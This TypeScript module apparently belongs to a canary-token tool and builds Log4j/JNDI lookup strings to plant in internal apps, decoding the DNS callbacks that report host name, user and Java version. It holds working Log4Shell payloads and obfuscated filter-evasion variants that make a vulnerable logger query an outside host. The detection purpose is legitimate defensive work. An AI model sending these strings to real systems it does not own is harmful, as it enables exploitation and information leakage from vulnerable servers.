import { tokenHostName } from './addresses.ts';
import { randomInt } from 'node:crypto';
import { z } from 'zod';
import { defineKind } from './kind.ts';
import { pick } from './urls.ts';

/**
 * Lookup-style strings (Log4Shell era) to plant where a scanner or an attacker would try
 * them, or to paste into the fields of internal apps: a vulnerable logger resolves the inner
 * lookup (host name, user, Java version) and then the JNDI URL, so its DNS resolver asks for
 * `<value>.<marker>.<id>.<zone>`. The marker label says which lookup the value came from.
 */

/** Which lookup each marker label stands for, and which actor field its value fills. */
export const LOOKUPS = {
  hn: { expr: '${hostName}', field: 'host', label: 'host name' },
  eh: { expr: '${env:HOSTNAME}', field: 'host', label: 'HOSTNAME' },
  ec: { expr: '${env:COMPUTERNAME}', field: 'host', label: 'COMPUTERNAME' },
  su: { expr: '${sys:user.name}', field: 'user', label: 'Java user.name' },
  eu: { expr: '${env:USER}', field: 'user', label: 'USER' },
  ew: { expr: '${env:USERNAME}', field: 'user', label: 'USERNAME' },
  jv: { expr: '${sys:java.version}', field: 'java', label: 'Java version' },
} as const;

export type LookupMarker = keyof typeof LOOKUPS;
const MARKERS = Object.keys(LOOKUPS) as LookupMarker[];
const isMarker = (s: string): s is LookupMarker => (MARKERS as string[]).includes(s);

const SCHEMES = ['ldap', 'ldaps', 'rmi', 'dns'] as const;
const PATHS = ['a', 'x', 'Exploit', 'o', 'c', 'obj', 'b'] as const;

const params = z.object({
  obfuscated: z.boolean().default(true).describe('Also list the lower:/upper:/default-value spellings that slip past naive filters'),
});

type LogInjectionParams = z.infer<typeof params>;

/**
 * `${jndi:...}` with its letters spelled through nested lookups, as scanners send it to dodge
 * filters: `${lower:j}`, `${::-j}` (an empty lookup's default) or `${env:NAME:-j}` (an unset
 * variable's default).
 */
function obfuscate(text: string, style: number): string {
  const unset = pick(['BARFOO', 'NaN', 'XYZZY', 'QQ']);
  const letter = (c: string) => (style === 0 ? `\${lower:${c}}` : style === 1 ? `\${::-${c}}` : `\${env:${unset}:-${c}}`);
  const spell = (word: string) => [...word].map(letter).join('');
  return text.replace(/^\$\{jndi:(\w+):/, (_, scheme: string) => `\${${spell('jndi')}:${style === 2 ? scheme : spell(scheme)}:`);
}

/** One payload per lookup (and per scheme), each resolving `<value>.<marker>.<host>` where host is `<id>.<zone>`. */
export function payloads(host: string, opts: { obfuscated: boolean }): { marker: LookupMarker | null; text: string }[] {
  const out: { marker: LookupMarker | null; text: string }[] = [];
  for (const m of MARKERS) out.push({ marker: m, text: `\${jndi:${pick(['ldap', 'ldap', 'ldaps', 'rmi'])}://${LOOKUPS[m].expr}.${m}.${host}/${pick(PATHS)}}` });
  for (const scheme of SCHEMES) out.push({ marker: null, text: `\${jndi:${scheme}://${host}/${pick(PATHS)}}` });
  if (opts.obfuscated) {
    for (let style = 0; style < 3; style++) {
      const m = pick(['hn', 'su', 'eh'] as const);
      out.push({ marker: m, text: obfuscate(`\${jndi:ldap://${LOOKUPS[m].expr}.${m}.${host}/${pick(PATHS)}}`, style) });
    }
  }
  return out;
}

/** Decode `<value labels>.<marker>` (labels left of the token id, case as sent). */
export function decodeLookup(raw: readonly string[]): { marker: LookupMarker | null; value: string | null } {
  const last = (raw[raw.length - 1] ?? '').toLowerCase();
  if (!isMarker(last)) return { marker: null, value: raw.length > 0 ? raw.slice(-8).join('.') : null };
  const value = raw.slice(0, -1).join('.').slice(0, 253);
  return { marker: last, value: value || null };
}

/** A list of JNDI lookup strings; a logger that resolves one looks up a token name carrying the value it expanded. */
export const logInjection = defineKind<LogInjectionParams>({
  id: 'log-injection',
  label: 'Log4j/JNDI lookup strings',
  description: 'JNDI lookup strings (${jndi:ldap://${hostName}...}). A logger that expands one looks up a token name that carries the host name, user or Java version it expanded.',
  channels: ['dns'],
  techniques: ['T1190', 'T1082', 'T1033'],
  params,
  example: { obfuscated: true },
  create(_ctx, _id, p) {
    return { params: p };
  },
  artifact(ctx, token) {
    const host = tokenHostName(ctx.config.DNS_ZONE, token);
    return {
      hostname: host,
      filename: 'payloads.txt',
      contentType: 'text/plain; charset=utf-8',
      hint: `Paste the strings into fields an internal app logs (user agent, login name, search boxes, ticket titles) or into config a scanner would test. A resolving logger asks for <value>.<marker>.${host}.`,
    };
  },
  render(ctx, token) {
    const host = tokenHostName(ctx.config.DNS_ZONE, token);
    const lines = payloads(host, { obfuscated: token.params.obfuscated }).map((p) => p.text);
    // Shuffle so the lookups do not sit in the same order in every file.
    for (let i = lines.length - 1; i > 0; i--) {
      const j = randomInt(i + 1);
      [lines[i], lines[j]] = [lines[j] ?? '', lines[i] ?? ''];
    }
    return { filename: 'payloads.txt', contentType: 'text/plain; charset=utf-8', body: Buffer.from(`${lines.join('\n')}\n`) };
  },
  explain(hit) {
    const marker = typeof hit.details?.lookup === 'string' && isMarker(hit.details.lookup) ? hit.details.lookup : null;
    const value = typeof hit.details?.value === 'string' ? hit.details.value.slice(0, 120) : null;
    const what = marker && value ? `, expanding ${LOOKUPS[marker].label} to "${value}"` : '';
    return { action: `a logger resolved a planted JNDI lookup string${what} (value reported by the lookup)`, evidence: 'touch', techniques: ['T1190', ...(marker === 'jv' ? ['T1082'] : marker ? ['T1033'] : [])] };
  },
  dns: {
    describe(query) {
      const { marker, value } = decodeLookup(query.rawDataLabels);
      if (!marker) return { details: value ? { labels: value } : {} };
      const field = LOOKUPS[marker].field;
      const actor = value && field === 'host' ? { host: value } : value && field === 'user' ? { user: value } : undefined;
      return { ...(actor ? { actor } : {}), details: { lookup: marker, value } };
    },
  },
});
